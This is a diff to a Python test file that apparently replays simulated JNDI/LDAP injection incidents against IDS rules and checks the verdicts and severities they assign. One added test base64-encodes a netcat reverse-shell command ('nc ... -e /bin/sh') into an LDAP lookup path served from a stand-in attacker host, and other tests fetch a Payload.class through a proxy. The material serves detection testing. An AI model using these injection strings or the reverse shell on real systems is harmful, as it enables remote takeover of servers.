@@ -6,6 +6,7 @@ Each row of docs/STORIES.md's "What does not promote" is here with a twin: the s
 makes the difference. The row must leave every incident an attempt, the twin must not, so that a row cannot pass because
 its capture shows nothing. All severities are held against the verdict they belong to.
 """
+import base64
 import pathlib
 import sys
 import tempfile
@@ -15,6 +16,7 @@ from tale import EVIL, OTHER, RESOLVER, SCANNER, Tale, VICTIM, java_object
 
 NAME = "ldap://%s:1389/a" % EVIL
 HOME = ["10.0.0.%d" % n for n in range(11, 15)]
+PARTNER, PROXY = "203.0.113.60", "10.0.0.33"  # in LDAP_ALLOWED; at home
 TABLE = []
 
 
@@ -59,6 +61,53 @@ def scan(tale, twin):
     tale.lookup(NAME)
     for port in range(1385, 1399) if not twin else [1385, 1389, 1390]:
         tale.refused(port=port)
+
+
+@row("a scan that nobody answers", ATTEMPT, CALLED)
+def silent_scan(tale, twin):
+    tale.lookup(NAME)
+    for port in range(1380, 1400) if not twin else [1385, 1389, 1390]:
+        tale.silent(port=port)
+
+
+@row("a resolver asks on for somebody", [(RESOLVER, "attempted")], [(RESOLVER, "vulnerable")])
+def resolver(tale, twin):
+    tale.lookup("ldap://evil.example/a", victim=RESOLVER)
+    if not twin:
+        tale.asks("evil.example", OTHER, server=RESOLVER)
+    tale.asks("evil.example", RESOLVER, EVIL, server="192.0.2.53")
+
+
+@row("questions about a domain that resolve nothing", ATTEMPT, CALLED)
+def mail_relay(tale, twin):
+    tale.lookup("ldap://evil.example/a")
+    for kind in (15, 16):
+        tale.asks("evil.example", kind=kind)
+    if twin:
+        tale.asks("evil.example")
+
+
+@row("a directory that the victim asks anyway", ATTEMPT, [(VICTIM, "vulnerable")])
+def used_directory(tale, twin):
+    for _ in range(0 if twin else 2):
+        tale.search("dc=corp", server=PARTNER, port=389)
+    tale.lookup("ldap://%s:389/a" % PARTNER)
+    tale.search("dc=corp", server=PARTNER, port=389)
+
+
+@row("a directory that all ask", ATTEMPT, [(VICTIM, "vulnerable")])
+def common_directory(tale, twin):
+    tale.lookup("ldap://%s:389/a" % PARTNER)
+    for client in [VICTIM] if twin else HOME:
+        tale.search("dc=corp", client, PARTNER, 389)
+
+
+@row("a class by way of a proxy, from elsewhere", [(VICTIM, "vulnerable")], [(VICTIM, "delivered")])
+def proxied(tale, twin):
+    tale.lookup(NAME)
+    tale.search(codebase="http://cb.example:8888/")
+    tale.fetch(server=PROXY, port=3128, path="http://%s/Payload.class", host="cb.example:8888" if twin else "lib.example:8888")
+    tale.hello(server=PROXY, port=8080)  # and no second stage
 
 
 @row("a habit", ATTEMPT, CALLED)
@@ -184,6 +233,15 @@ def old_named(tale, twin):
     tale.browse(VICTIM, "203.0.113.77", 80)
 
 
+@row("another port than the command names", [(VICTIM, "delivered")], [(VICTIM, "compromised")])
+def command(tale, twin):
+    text = base64.b64encode(b"nc 203.0.113.77 4444 -e /bin/sh").decode()
+    tale.lookup("ldap://%s:1389/Basic/Command/Base64/%s" % (EVIL, text))
+    tale.search("Basic/Command/Base64/" + text, codebase="http://%s:8888/" % EVIL)
+    tale.fetch()
+    tale.hello(server="203.0.113.77", port=4444 if twin else 4445)
+
+
 @row("a reference whose class nobody fetches", CALLED, [(VICTIM, "delivered")])
 def offer(tale, twin):
     tale.lookup(NAME)
@@ -218,14 +276,16 @@ def victims_of(text):
 
 
 def judge(program, path, expected):
-    text = lab.replay(program, path, extra=("-s", str(lab.TOP / "rules/incidents.rules")))
+    text = lab.replay(program, path, extra=("-s", str(lab.TOP / "rules/incidents.rules"),
+                                            "--set", "vars.address-groups.LDAP_ALLOWED=[%s]" % PARTNER))
     victims, lines = victims_of(text), []
     found = [(story.get("victim") or victims[number], story["verdict"]) for number, story in lab.incidents(text).items()]
     if sorted(found) != sorted(expected):
         lines.append("expected %s, found %s" % (expected, found))
     for alert in (event for event in lab.events(text) if event["event_type"] == "alert"):
         verdict, severity = lab.facts(alert).get("incident", {}).get("verdict"), alert["alert"]["severity"]
-        if lab.is_story(alert) and severity != 1 or verdict == "attempted" and severity < 2:
+        at_worst = 2 if "ldap-allowed" in lab.facts(alert).get("label", []) else 1
+        if lab.is_story(alert) and severity != at_worst or verdict == "attempted" and severity < 2:
             lines.append("%s is severity %d" % (verdict, severity))
     return lines
 
